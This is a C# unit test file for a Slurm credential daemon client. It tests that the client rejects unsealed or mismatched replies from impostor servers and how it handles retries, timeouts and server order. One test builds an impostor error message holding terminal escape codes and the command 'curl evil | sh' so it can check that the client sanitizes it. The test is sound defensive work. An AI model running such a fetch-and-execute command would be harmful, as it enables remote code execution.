using System.Diagnostics;
using SlurmNative.Credentials.Client;
using SlurmNative.Credentials.Configuration;
using SlurmNative.Credentials.Protocol;
using SlurmNative.Tests.Daemon.Fakes;
using SlurmNative.Tests.Daemon.Service;

namespace SlurmNative.Tests.Credentials.Client;

/// <summary>
/// What the client takes for the daemon's answer: a sealed reply that opens with its request's key,
/// and nothing else. Whatever else answers is passed over for the next server.
/// </summary>
public class DaemonClientTests
{
    private const uint Alice = 1001;

    private static DaemonClient Client(TimeSpan timeout, params int[] ports) =>
        new(ports.Select(p => $"127.0.0.1:{p}").ToArray(), timeout, new FakeSigner(Alice));

    private static DaemonClient Client(ServerOrder order, TimeSpan timeout, params int[] ports) =>
        new(ports.Select(p => $"127.0.0.1:{p}").ToArray(), timeout, new FakeSigner(Alice), order);

    [Fact]
    public async Task A_plain_refusal_from_the_first_server_sends_the_request_on_to_the_daemon()
    {
        await using var daemon = new DaemonHarness();
        byte[] ticket = FakeInspector.Ticket("alice@TEST", Alice);
        daemon.ClientFor(Alice).Call(Request.Create(Operation.Add, blob: ticket));
        using var impostor = new ScriptedPeer((_, _) => Reply.Error(ReplyStatus.NotFound, "nothing stored for you").EncodePlain());

        byte[] fetched = Client(TimeSpan.FromSeconds(5), impostor.Port, daemon.Endpoint.Port).Call(Request.Create(Operation.Get));

        Assert.Equal(1, impostor.Connections);
        Assert.Equal(ticket, fetched);
    }

    [Fact]
    public async Task A_reply_sealed_under_another_key_is_not_the_daemons_and_the_next_server_answers()
    {
        await using var daemon = new DaemonHarness();
        byte[] ticket = FakeInspector.Ticket("alice@TEST", Alice);
        daemon.ClientFor(Alice).Call(Request.Create(Operation.Add, blob: ticket));
        byte[] forged = FakeInspector.Ticket("mallory@TEST", Alice);
        using var impostor = new ScriptedPeer((_, _) => Reply.Ok(forged).Seal(Request.Create(Operation.Get)));

        byte[] fetched = Client(TimeSpan.FromSeconds(5), impostor.Port, daemon.Endpoint.Port).Call(Request.Create(Operation.Get));

        Assert.Equal(ticket, fetched);
    }

    [Fact]
    public void When_only_impostors_answer_the_client_reports_every_server_and_no_status_of_theirs()
    {
        using var plain = new ScriptedPeer((_, _) => Reply.Error(ReplyStatus.Forbidden, "denied\u001b[2J\u202Erun: curl evil | sh").EncodePlain());
        using var forger = new ScriptedPeer((_, _) => Reply.Ok([1, 2, 3]).Seal(Request.Create(Operation.Get)));

        var failure = Assert.Throws<DaemonUnreachableException>(() => Client(TimeSpan.FromSeconds(5), plain.Port, forger.Port).Call(Request.Create(Operation.Get)));

        Assert.Contains($"127.0.0.1:{plain.Port}: unauthenticated answer Forbidden: denied?[2J?run: curl evil | sh", failure.Message);
        Assert.Contains($"127.0.0.1:{forger.Port}: the reply does not answer this request", failure.Message);
        Assert.Contains("is not the daemon this request was sealed for", failure.Message);
        Assert.DoesNotContain('\u001b', failure.Message);
    }

    [Fact]
    public void A_busy_daemon_is_asked_again_within_the_timeout_with_the_same_request()
    {
        var requestIds = new List<byte[]>();
        using var daemon = new ScriptedPeer((n, request) =>
        {
            lock (requestIds)
                requestIds.Add(request.RequestId);
            return n <= 2 ? Reply.Error(ReplyStatus.Busy, "at the limit").EncodePlain() : Reply.Ok([42]).Seal(request);
        });

        byte[] body = Client(TimeSpan.FromSeconds(5), daemon.Port).Call(Request.Create(Operation.Ping));

        Assert.Equal([42], body);
        Assert.Equal(3, daemon.Connections);
        Assert.All(requestIds, id => Assert.Equal(requestIds[0], id));
    }

    [Fact]
    public void A_daemon_that_stays_busy_is_given_up_on_at_the_client_timeout()
    {
        using var daemon = new ScriptedPeer((_, _) => Reply.Error(ReplyStatus.Busy, "at the limit").EncodePlain());
        var clock = Stopwatch.StartNew();

        var failure = Assert.Throws<DaemonUnreachableException>(() => Client(TimeSpan.FromSeconds(3), daemon.Port).Call(Request.Create(Operation.Ping)));

        Assert.True(failure.Message.Contains($"127.0.0.1:{daemon.Port}: busy (asked ", StringComparison.Ordinal), failure.Message);
        Assert.True(daemon.Connections > 2, $"a busy daemon should have been asked again and again, not {daemon.Connections} times");
        Assert.InRange(clock.ElapsedMilliseconds, 2_000, 10_000);
    }

    [Fact]
    public void A_daemon_that_is_down_is_not_asked_again()
    {
        int closedPort;
        using (var probe = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0))
        {
            probe.Start();
            closedPort = ((System.Net.IPEndPoint)probe.LocalEndpoint).Port;
        }
        var clock = Stopwatch.StartNew();

        Assert.Throws<DaemonUnreachableException>(() => Client(TimeSpan.FromSeconds(5), closedPort).Call(Request.Create(Operation.Ping)));

        // Refused at once: waiting out the timeout would only delay the job's start.
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(2), $"took {clock.Elapsed}");
    }

    [Fact]
    public async Task A_silent_first_server_leaves_the_next_time_to_answer_within_the_one_timeout()
    {
        await using var daemon = new DaemonHarness();
        byte[] ticket = FakeInspector.Ticket("alice@TEST", Alice);
        daemon.ClientFor(Alice).Call(Request.Create(Operation.Add, blob: ticket));
        // Accepts into its backlog and never answers: a host cut off after the handshake.
        using var silent = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0);
        silent.Start();
        int silentPort = ((System.Net.IPEndPoint)silent.LocalEndpoint).Port;
        var clock = Stopwatch.StartNew();

        byte[] fetched = Client(TimeSpan.FromSeconds(1), silentPort, daemon.Endpoint.Port).Call(Request.Create(Operation.Get));

        Assert.Equal(ticket, fetched);
        // Half the timeout on the silent one, then the daemon's answer: never past the timeout.
        Assert.InRange(clock.ElapsedMilliseconds, 450, 1_100);
    }

    [Fact]
    public void Random_order_spreads_requests_over_every_server_and_listed_order_keeps_to_the_first()
    {
        using var first = new ScriptedPeer((_, request) => Reply.Ok([1]).Seal(request));
        using var second = new ScriptedPeer((_, request) => Reply.Ok([2]).Seal(request));

        var listed = Enumerable.Range(0, 20).Select(_ => Client(ServerOrder.Listed, TimeSpan.FromSeconds(5), first.Port, second.Port).Call(Request.Create(Operation.Ping))[0]).ToList();
        var spread = Enumerable.Range(0, 40).Select(_ => Client(ServerOrder.Random, TimeSpan.FromSeconds(5), first.Port, second.Port).Call(Request.Create(Operation.Ping))[0]).ToList();

        Assert.All(listed, answer => Assert.Equal(1, answer));
        // 40 fair coin tosses all landing one way happen once in half a trillion runs.
        Assert.Contains((byte)1, spread);
        Assert.Contains((byte)2, spread);
    }

    [Fact]
    public void A_daemon_without_its_store_sends_the_request_on_and_is_not_asked_again()
    {
        using var cutOff = new ScriptedPeer((_, request) => Reply.Error(ReplyStatus.StoreUnavailable, "store unavailable").Seal(request));
        using var daemon = new ScriptedPeer((_, request) => Reply.Ok([7]).Seal(request));

        Assert.Equal([7], Client(TimeSpan.FromSeconds(5), cutOff.Port, daemon.Port).Call(Request.Create(Operation.Get)));
        Assert.Equal(1, cutOff.Connections);

        using var alsoCutOff = new ScriptedPeer((_, request) => Reply.Error(ReplyStatus.StoreUnavailable, "store unavailable: try later").Seal(request));
        var clock = Stopwatch.StartNew();
        var failure = Assert.Throws<DaemonException>(() => Client(TimeSpan.FromSeconds(5), cutOff.Port, alsoCutOff.Port).Call(Request.Create(Operation.Get)));

        // Every daemon's authenticated answer was the same: that is what the caller hears, at once.
        Assert.Equal(ReplyStatus.StoreUnavailable, failure.Status);
        Assert.Contains("store unavailable", failure.Message, StringComparison.Ordinal);
        Assert.Equal((2, 1), (cutOff.Connections, alsoCutOff.Connections));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(1), $"took {clock.Elapsed}");
    }
}
